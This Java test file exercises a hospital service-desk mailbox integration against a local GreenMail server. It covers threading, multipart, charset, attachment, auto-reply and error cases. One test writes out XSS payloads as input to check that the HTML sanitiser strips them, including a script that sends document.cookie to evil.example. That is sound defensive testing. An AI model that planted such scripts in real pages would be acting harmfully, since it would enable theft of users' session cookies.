package org.medley.integrations.mail;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import com.icegreen.greenmail.util.ServerSetupTest;
import jakarta.activation.DataHandler;
import jakarta.mail.Message;
import jakarta.mail.Session;
import jakarta.mail.Transport;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import jakarta.mail.util.ByteArrayDataSource;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.medley.integrations.Desks;
import org.medley.integrations.api.DeskConnection;
import org.medley.integrations.api.DeskHealth;
import org.medley.integrations.api.DeskKind;
import org.medley.integrations.api.DeskUnavailable;
import org.medley.integrations.api.InboundMail;
import org.medley.integrations.api.MailGateway;

/**
 * Mail in through Camel against GreenMail: mails are sent over SMTP and read over IMAP (and POP3)
 * by the mailbox route, as a hospital's support mailbox would hold them.
 */
class MailboxesTest {

  private static final String MAILBOX = "servicedesk@riverside.example";

  private GreenMail mail;
  private Desks desks;
  private MailGateway mailboxes;

  @BeforeEach
  void start() {
    ServerSetup[] setups = {
      ServerSetupTest.SMTP.dynamicPort(),
      ServerSetupTest.IMAP.dynamicPort(),
      ServerSetupTest.POP3.dynamicPort()
    };
    mail = new GreenMail(setups);
    mail.start();
    mail.setUser(MAILBOX, "servicedesk", "s3cret-mailbox");
    desks = Desks.start(List.of(), Desks.Settings.defaults(), Clock.systemUTC());
    mailboxes = desks.mailboxes();
  }

  @AfterEach
  void stop() {
    desks.close();
    mail.stop();
  }

  private DeskConnection imap() {
    return connection("imap", mail.getImap().getPort(), "s3cret-mailbox");
  }

  private DeskConnection connection(String protocol, int port, String password) {
    return new DeskConnection(
        7,
        DeskKind.EMAIL,
        "Service desk mailbox",
        URI.create(protocol + "://127.0.0.1:" + port),
        DeskConnection.Auth.basic("servicedesk", password),
        Map.of("protocol", protocol, "host", "127.0.0.1", "port", String.valueOf(port)),
        null);
  }

  private MimeMessage message() throws Exception {
    Properties properties = new Properties();
    properties.put("mail.smtp.host", "127.0.0.1");
    properties.put("mail.smtp.port", String.valueOf(mail.getSmtp().getPort()));
    MimeMessage message = new MimeMessage(Session.getInstance(properties));
    message.setFrom(new InternetAddress("joy.nurse@riverside.example", "Nurse Joy"));
    message.setRecipient(Message.RecipientType.TO, new InternetAddress(MAILBOX));
    return message;
  }

  private List<InboundMail> fetch() {
    List<InboundMail> read = new ArrayList<>();
    mailboxes.fetch(imap(), 50, 1_000_000, read::add);
    return read;
  }

  @Test
  void aPlainMailIsReadWithItsThreadingHeadersAndWithoutQuoteOrSignature() throws Exception {
    MimeMessage message = message();
    message.setSubject("Re: [INC-000123] Printer on 4 West");
    message.setHeader("In-Reply-To", "<n-42@medley>");
    message.setHeader("References", "<root-1@medley> <n-42@medley>");
    message.setText(
        "It still jams on every second page.\n\n"
            + "-- \nJoy, RN, 4 West\n\n"
            + "On Tue, 1 Dec 2026 at 09:12, Medley <servicedesk@riverside.example> wrote:\n"
            + "> The service desk replied to your ticket.\n",
        "UTF-8");
    Transport.send(message);

    List<InboundMail> read = fetch();

    assertThat(read).hasSize(1);
    InboundMail got = read.get(0);
    assertThat(got.messageId()).isNotBlank().doesNotContain("<");
    assertThat(got.inReplyTo()).containsExactly("n-42@medley");
    assertThat(got.references()).containsExactly("root-1@medley", "n-42@medley");
    assertThat(got.answers()).containsExactly("n-42@medley", "root-1@medley");
    assertThat(got.from()).isEqualTo("joy.nurse@riverside.example");
    assertThat(got.fromName()).isEqualTo("Nurse Joy");
    assertThat(got.to()).containsExactly(MAILBOX);
    assertThat(got.subject()).isEqualTo("Re: [INC-000123] Printer on 4 West");
    assertThat(got.automatic()).isNull();
    assertThat(got.text()).isEqualTo("It still jams on every second page.");
  }

  @Test
  void aHandledMailIsNotReadAgainButOneWhoseHandlerFailedIs() throws Exception {
    MimeMessage message = message();
    message.setSubject("Badge reader down");
    message.setText("The badge reader at the ED entrance does not react.");
    Transport.send(message);

    assertThatThrownBy(
            () ->
                mailboxes.fetch(
                    imap(),
                    50,
                    1_000_000,
                    m -> {
                      throw new IllegalStateException("database down");
                    }))
        .isInstanceOf(RuntimeException.class);
    // not marked seen: it comes again
    assertThat(fetch()).extracting(InboundMail::subject).containsExactly("Badge reader down");
    // handled now: never again
    assertThat(fetch()).isEmpty();
  }

  @Test
  void multipartAlternativeUsesTheTextPart() throws Exception {
    MimeMessage message = message();
    message.setSubject("VPN token");
    MimeMultipart alternative = new MimeMultipart("alternative");
    MimeBodyPart plain = new MimeBodyPart();
    plain.setText("My VPN token expired.", "UTF-8");
    MimeBodyPart html = new MimeBodyPart();
    html.setContent("<p>My <b>VPN</b> token expired (HTML).</p>", "text/html; charset=UTF-8");
    alternative.addBodyPart(plain);
    alternative.addBodyPart(html);
    message.setContent(alternative);
    Transport.send(message);

    InboundMail got = fetch().get(0);

    assertThat(got.text()).isEqualTo("My VPN token expired.");
    assertThat(got.attachments()).isEmpty();
  }

  @Test
  void htmlBecomesSafeTextWithoutScriptsStylesOrMarkup() throws Exception {
    MimeMessage message = message();
    message.setSubject("Epic login");
    message.setContent(
        "<html><head><style>p{color:red}</style><script>alert('head')</script></head><body>"
            + "<p>I cannot log in to <b>Epic</b> &amp; Haiku.</p>"
            + "<script>document.location='https://evil.example/?c='+document.cookie</script>"
            + "<p onclick=\"steal()\">Error <i>ERR-401</i><br>since 08:00</p>"
            + "<img src=x onerror=alert(1)>"
            + "<blockquote>On Monday you wrote: old text</blockquote>"
            + "</body></html>",
        "text/html; charset=UTF-8");
    Transport.send(message);

    InboundMail got = fetch().get(0);

    assertThat(got.text())
        .isEqualTo("I cannot log in to Epic & Haiku.\nError ERR-401\nsince 08:00");
    assertThat(got.text())
        .doesNotContain("<", "alert", "document", "steal", "color", "evil", "old text");
  }

  @Test
  void quotedPrintableInALatinCharsetIsDecoded() throws Exception {
    MimeMessage message = message();
    message.setSubject("=?ISO-8859-1?Q?Dr=FCcker_im_B=FCro?=");
    MimeBodyPart part = new MimeBodyPart();
    byte[] latin =
        "Der Drucker in Büro 3 druckt nur «Fehler» – bitte prüfen.\n"
            .getBytes(java.nio.charset.Charset.forName("windows-1252"));
    part.setDataHandler(
        new DataHandler(new ByteArrayDataSource(latin, "text/plain; charset=windows-1252")));
    part.setHeader("Content-Type", "text/plain; charset=windows-1252");
    part.setHeader("Content-Transfer-Encoding", "quoted-printable");
    MimeMultipart mixed = new MimeMultipart();
    mixed.addBodyPart(part);
    message.setContent(mixed);
    message.saveChanges();
    assertThat(new String(message.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1))
        .isNotEmpty();
    Transport.send(message);

    InboundMail got = fetch().get(0);

    assertThat(got.subject()).isEqualTo("Drücker im Büro");
    assertThat(got.text()).isEqualTo("Der Drucker in Büro 3 druckt nur «Fehler» – bitte prüfen.");
  }

  @Test
  void inlineImagesAndAttachmentsAreFilesWithNameTypeAndSize() throws Exception {
    MimeMessage message = message();
    message.setSubject("Screen shows an error");
    MimeMultipart related = new MimeMultipart("related");
    MimeBodyPart html = new MimeBodyPart();
    html.setContent("<p>See the screen:</p><img src=\"cid:shot1\">", "text/html; charset=UTF-8");
    MimeBodyPart image = new MimeBodyPart();
    byte[] png = {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13};
    image.setDataHandler(new DataHandler(new ByteArrayDataSource(png, "image/png")));
    image.setContentID("<shot1>");
    image.setDisposition(MimeBodyPart.INLINE);
    related.addBodyPart(html);
    related.addBodyPart(image);
    MimeBodyPart body = new MimeBodyPart();
    body.setContent(related);
    MimeBodyPart pdf = new MimeBodyPart();
    byte[] document = "%PDF-1.4\n%âãÏÓ\n".getBytes(StandardCharsets.ISO_8859_1);
    pdf.setDataHandler(new DataHandler(new ByteArrayDataSource(document, "application/pdf")));
    pdf.setFileName("error-log.pdf");
    pdf.setDisposition(MimeBodyPart.ATTACHMENT);
    MimeMultipart mixed = new MimeMultipart("mixed");
    mixed.addBodyPart(body);
    mixed.addBodyPart(pdf);
    message.setContent(mixed);
    Transport.send(message);

    InboundMail got = fetch().get(0);

    assertThat(got.text()).isEqualTo("See the screen:");
    assertThat(got.attachments())
        .extracting(a -> a.contentType() + " " + a.size() + " " + a.inline())
        .containsExactly("image/png 12 true", "application/pdf " + document.length + " false");
    assertThat(got.attachments().get(1).name()).isEqualTo("error-log.pdf");
    assertThat(got.attachments().get(0).bytes()).isEqualTo(png);
  }

  @Test
  void aFileOverTheLimitIsListedButNotDownloaded() throws Exception {
    MimeMessage message = message();
    message.setSubject("Big scan");
    MimeBodyPart text = new MimeBodyPart();
    text.setText("Here is the scan.");
    MimeBodyPart file = new MimeBodyPart();
    byte[] big = new byte[2_000_000];
    file.setDataHandler(new DataHandler(new ByteArrayDataSource(big, "application/pdf")));
    file.setFileName("scan.pdf");
    MimeMultipart mixed = new MimeMultipart();
    mixed.addBodyPart(text);
    mixed.addBodyPart(file);
    message.setContent(mixed);
    Transport.send(message);

    InboundMail got = fetch().get(0);

    assertThat(got.text()).isEqualTo("Here is the scan.");
    InboundMail.Attachment scan = got.attachments().get(0);
    assertThat(scan.omitted()).isTrue();
    assertThat(scan.bytes()).isEmpty();
    assertThat(scan.size()).isBetween(1_900_000L, 2_100_000L);
  }

  @Test
  void autoRepliesAreFlagged() throws Exception {
    MimeMessage outOfOffice = message();
    outOfOffice.setSubject("Out of Office: Re: [INC-000123] Printer");
    outOfOffice.setText("I am away until Monday.");
    Transport.send(outOfOffice);
    MimeMessage autoSubmitted = message();
    autoSubmitted.setSubject("Re: [INC-000124] VPN");
    autoSubmitted.setHeader("Auto-Submitted", "auto-replied");
    autoSubmitted.setText("Thanks, we got your mail.");
    Transport.send(autoSubmitted);
    MimeMessage bulk = message();
    bulk.setSubject("Newsletter");
    bulk.setHeader("Precedence", "bulk");
    bulk.setText("News.");
    Transport.send(bulk);
    MimeMessage person = message();
    person.setSubject("Re: [INC-000124] VPN");
    person.setHeader("Auto-Submitted", "no");
    person.setText("Works again, thanks.");
    Transport.send(person);

    assertThat(fetch())
        .extracting(InboundMail::automatic)
        .containsExactly(
            "out-of-office subject", "Auto-Submitted: auto-replied", "Precedence: bulk", null);
  }

  @Test
  void pop3DeletesWhatWasHandled() throws Exception {
    MimeMessage message = message();
    message.setSubject("Phone on 5 East");
    message.setText("The phone at the nurses' station is dead.");
    Transport.send(message);
    DeskConnection pop3 = connection("pop3", mail.getPop3().getPort(), "s3cret-mailbox");

    List<InboundMail> read = new ArrayList<>();
    assertThat(mailboxes.fetch(pop3, 10, 1_000_000, read::add)).isEqualTo(1);
    assertThat(mailboxes.fetch(pop3, 10, 1_000_000, read::add)).isZero();

    assertThat(read).extracting(InboundMail::subject).containsExactly("Phone on 5 East");
    assertThat(mail.getReceivedMessages()).isEmpty();
  }

  @Test
  void aMailboxThatIsDownOrRefusesTheSignInIsReported() {
    DeskConnection wrongPassword = connection("imap", mail.getImap().getPort(), "wrong");
    assertThatThrownBy(() -> mailboxes.fetch(wrongPassword, 10, 1_000_000, m -> {}))
        .isInstanceOf(DeskUnavailable.class)
        .hasMessageContaining("Service desk mailbox");
    DeskHealth refused = desks.test(wrongPassword);
    assertThat(refused.ok()).isFalse();
    assertThat(refused.detail()).contains("refused the sign-in");

    assertThat(desks.test(imap()).ok()).isTrue();
    assertThat(desks.test(imap()).detail()).contains("opened INBOX");

    int port = mail.getImap().getPort();
    mail.stop();
    DeskConnection down = connection("imap", port, "s3cret-mailbox");
    assertThatThrownBy(() -> mailboxes.fetch(down, 10, 1_000_000, m -> {}))
        .isInstanceOf(DeskUnavailable.class);
    assertThat(desks.test(down).detail()).startsWith("Could not reach the mailbox");
  }
}
